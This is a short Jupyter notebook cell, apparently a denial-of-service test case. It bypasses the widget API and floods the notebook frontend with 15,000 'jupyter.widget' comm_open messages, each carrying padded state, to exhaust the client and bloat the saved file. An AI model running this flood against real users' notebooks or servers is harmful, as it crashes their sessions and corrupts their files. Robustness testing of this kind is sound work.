# %% [markdown]
# # **denial: opens small widgets, as many as it can**
#
# Each has a state of its own, which a client would keep, and write into the notebook.

# %%
kernel = get_ipython().kernel
state = {"_model_name": "M", "_model_module": "m", "_model_module_version": "1", "x": "y" * 500}
for number in range(15_000):
    content = {"comm_id": f"{number}", "target_name": "jupyter.widget", "data": {"state": state}}
    parent = kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=parent)
